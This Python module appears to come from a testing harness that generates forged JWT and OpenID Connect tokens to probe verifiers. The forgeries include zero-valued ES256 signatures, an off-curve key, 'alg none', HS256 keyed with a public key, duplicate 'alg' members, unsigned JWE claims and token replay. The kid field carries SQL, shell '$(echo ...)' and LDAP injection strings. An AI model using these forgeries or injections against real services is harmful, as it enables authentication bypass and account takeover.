"""Tokens that go through where a verifier reads or computes in another way than it should."""

import hashlib
import json
import secrets
from typing import Any

from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt import api_jws

from fakes.attacks.forging import compact, keys, signed
from fakes.attacks.provider import Attack, OwnProvider
from fakes.attacks.signatures import headed, maced_by, rightly_signed
from fakes.engine.provider import Provider
from fakes.keys import EcSigningKey, base64url, called, ec_key

CURVE_KEY = EcSigningKey(called("a-key-on-a-curve"), ec_key("a-key-on-a-curve"))
# The order of the group of P-256 (FIPS 186-4, D.1.2.3).
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
INJECTED = "x"
TAG_LENGTH = 16
CURVE_LISTED = keys(
    "a JWK Set with a key on P-256",
    lambda published, provider: [*published, CURVE_KEY.public_jwk()],
)


def zero_signatures() -> list[Attack]:
    """ES256 with values that fit every text where nobody looks at their range."""
    pairs = {"r and s 0": (0, 0), "r and s the order": (ORDER, ORDER), "r 1 and s 0": (1, 0)}
    return [
        headed(
            f"ES256, {says}",
            base64url(r.to_bytes(32, "big") + s.to_bytes(32, "big")),
            alg="ES256",
            kid=CURVE_KEY.kid,
        )
        for says, (r, s) in pairs.items()
    ]


def point_off_curve() -> tuple[Attack, Attack]:
    """A JWK Set with a point that is on no curve, and a token under its name."""
    kid = "a-point-beside-the-curve"
    point = CURVE_KEY.public_jwk() | {"kid": kid, "y": CURVE_KEY.public_jwk()["x"]}
    listed = keys("a point beside the curve", lambda published, provider: [*published, point])
    return listed, headed("ES256 under its name", base64url(b"\x01" * 64), alg="ES256", kid=kid)


def none_and_signature() -> Attack:
    """The algorithm none, over the signature of the right token."""

    def sign(claims: dict[str, Any], provider: Provider) -> str:
        signature = rightly_signed(claims, provider).rpartition(".")[2]
        return compact({"alg": "none", "typ": "JWT"}, claims, signature)

    return signed("alg none over a right signature", sign)


def maced_by_curve_key() -> list[Attack]:
    """A MAC by a public key on a curve, in each of the texts that libraries take for a secret."""
    public = CURVE_KEY.private.public_key()
    spelled = {
        "PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(CURVE_KEY.public_jwk()).encode(),
        "point": public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint),
    }
    return [
        maced_by(f"HS256 by the public key on a curve as {name}", secret, kid=CURVE_KEY.kid)
        for name, secret in spelled.items()
    ]


def injected_kids() -> list[Attack]:
    """A kid that makes a query for a key answer with what the attacker wrote."""
    kids = (f"' UNION SELECT '{INJECTED}' -- ", f"$(echo {INJECTED})", f"*)(key={INJECTED})(kid=*")
    return [maced_by(f"kid {kid}", INJECTED.encode(), kid=kid) for kid in kids]


def repeated_members() -> list[Attack]:
    """Two algorithms in one header: who reads the first one and who the last verify differently.

    The last one counts, or the whole is refused (RFC 7515 section 4).
    """

    def unsigned(first: str, last: str) -> Attack:
        def sign(claims: dict[str, Any], provider: Provider) -> str:
            named = json.dumps({"alg": first, "kid": provider.signing_keys()[0].kid})
            header = f'{named[:-1]}, "alg": "{last}"}}'
            payload = compact({}, claims).split(".")[1]
            return f"{base64url(header.encode())}.{payload}."

        return signed(f"alg {first}, alg {last} after it, and no signature", sign)

    return [unsigned("none", "RS256"), unsigned("RS256", "none")]


def encrypted_alone(secret: str) -> Attack:
    """A JWE by the client secret (Core section 10.2), with claims that nobody signed."""

    def encrypt(claims: dict[str, Any], provider: Provider) -> str:
        header = base64url(json.dumps({"alg": "dir", "enc": "A256GCM"}).encode())
        key, nonce = hashlib.sha256(secret.encode()).digest(), secrets.token_bytes(12)
        sealed = AESGCM(key).encrypt(nonce, json.dumps(claims).encode(), header.encode())
        text, tag = sealed[:-TAG_LENGTH], sealed[-TAG_LENGTH:]
        return ".".join((header, "", *map(base64url, (nonce, text, tag))))

    return signed("a JWE by the client secret, of claims that nobody signed", encrypt)


def with_header(**header: Any) -> Attack:
    """Signed as it should be, under a header that says more."""

    def sign(claims: dict[str, Any], provider: Provider) -> str:
        key = provider.signing_keys()[0]
        text = json.dumps(claims).encode()
        return api_jws.encode(text, key.private, "RS256", {"kid": key.kid} | header)

    return signed(f"a header that says more: {', '.join(header)}", sign)


def earlier_id_token(provider: OwnProvider) -> Attack:
    """An ID Token of the login before, which was right there."""
    token = provider.forged_id_token()
    return signed("the ID Token of an earlier login", lambda claims, provider: token)
